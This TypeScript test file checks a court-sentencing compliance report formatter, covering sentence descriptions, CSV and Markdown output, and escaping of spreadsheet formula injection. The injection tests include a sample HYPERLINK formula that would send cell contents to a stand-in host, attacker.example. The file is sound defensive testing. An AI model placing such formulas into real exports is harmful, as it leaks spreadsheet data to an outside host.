import type { ReportRow } from '../../src/compliance/finding.repository';
import { csvCell, describeSentence, toCsv, toMarkdown } from '../../src/compliance/report.format';

const VERSION = { lawRevision: '97', findingsVersion: '1203', readAt: '2026-12-07T10:15:00Z' };

const row = (over: Partial<ReportRow> = {}): ReportRow => ({
  caseNumber: 'P 12/16',
  court: 'Basic Court of Pristina',
  decisionDate: '2016-05-10',
  provenance: 'REPORTED',
  sourceUrl: 'https://example.org/p-12-16',
  convictedCitation: 'CCK Art. 171',
  defendant: 'A.B.',
  imprisonmentMonths: 42,
  suspended: false,
  fineEur: null,
  imposedMonths: 42,
  applicableCitation: 'CCK Art. 171',
  minimumMonths: 60,
  status: 'BELOW_MINIMUM',
  reasons: ['RANGE_UNVERIFIED'],
  shortfallMonths: 18,
  confidence: 'UNVERIFIED',
  ...over,
});

describe('report formatting', () => {
  it.each([
    [{ imprisonmentMonths: 42, suspended: false, fineEur: null }, '42 months'],
    [{ imprisonmentMonths: 18, suspended: true, fineEur: null }, '18 months suspended'],
    [{ imprisonmentMonths: null, suspended: null, fineEur: 1050 }, 'fine 1,050 €'],
    [{ imprisonmentMonths: 24, suspended: false, fineEur: 500 }, '24 months and fine 500 €'],
    [{ imprisonmentMonths: null, suspended: null, fineEur: null }, ''],
  ])('describes %o as "%s"', (sentence, text) => {
    expect(describeSentence(sentence)).toBe(text);
  });

  it('writes one CSV row per finding, quoting cells that need it', () => {
    const csv = toCsv(
      [row(), row({ caseNumber: 'P "13", 2016', reasons: ['FINE_ONLY', 'RANGE_UNVERIFIED'] })],
      VERSION,
    );
    expect(csv.startsWith('\uFEFFcase_number,')).toBe(true);
    const lines = csv.trim().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toBe(
      'P 12/16,Basic Court of Pristina,2016-05-10,CCK Art. 171,A.B.,42 months,42,CCK Art. 171,60,BELOW_MINIMUM,RANGE_UNVERIFIED,18,UNVERIFIED,REPORTED,https://example.org/p-12-16,' +
        '"law revision 97, findings version 1203, read 2026-12-07T10:15:00Z"',
    );
    expect(lines[2]).toMatch(/^"P ""13"", 2016",.*,"FINE_ONLY;RANGE_UNVERIFIED",/);
  });

  it('puts the summary first in Markdown and warns about synthetic and unverified rows', () => {
    const md = toMarkdown(
      '2016',
      [row(), row({ provenance: 'SYNTHETIC', confidence: 'SECONDARY_SOURCE' })],
      {
        year: 2016,
        courtId: null,
        provisionId: null,
        status: null,
        stage: null,
        judge: null,
        downgraded: null,
        total: 2,
        compliant: 0,
        belowMinimum: 2,
        aboveMaximum: 0,
        undetermined: 0,
        medianImposedMonths: 42,
        medianMinimumMonths: 60,
      },
      VERSION,
    );
    expect(md).toContain('| Below the minimum | 2 (100.0%) |');
    expect(md).toContain('**1 of these rows come from SYNTHETIC example decisions: not evidence.**');
    expect(md).toContain('1 finding(s) rest on an unverified range or date');
    expect(md).toContain(
      '| P 12/16 | Basic Court of Pristina | 2016-05-10 | A.B. | CCK Art. 171 | 42 months | 60 months (CCK Art. 171) |',
    );
  });

  it('ends the Markdown with the counting rules and the version of the data, to cite', () => {
    const md = toMarkdown('2016', [row()], undefined, VERSION);
    expect(md).toMatch(/## How these figures are counted\n\n- One row per convicted count/);
    expect(md).toMatch(/A suspended term counts as 0 months; a fine alone as 0 months/);
    expect(md).toMatch(/Life imprisonment: a count cannot hold a life sentence/);
    expect(md.trimEnd().split('\n').pop()).toBe(
      'Data: law revision 97, findings version 1203, read 2026-12-07T10:15:00Z.',
    );
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  it.each([
    [
      '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
      `"'=HYPERLINK(""http://attacker.example/?x=""&A1,""open"")"`,
    ],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('%j is written as the text %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it.each([['K.nr. 123/2016'], ['P 45/15'], ['2016-06-15'], ['42'], ['BELOW_MINIMUM'], ['a=b'], ["O'Brien"]])(
    'keeps %j as it is',
    (value) => {
      expect(csvCell(value)).toBe(value);
    },
  );

  it('neutralises a case number that is a formula in the export', () => {
    const csv = toCsv(
      [{ ...row(), caseNumber: '=HYPERLINK("http://attacker.example/?x="&A1,"open")' }],
      VERSION,
    );
    const line = csv.split('\n')[1];
    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
  });
});
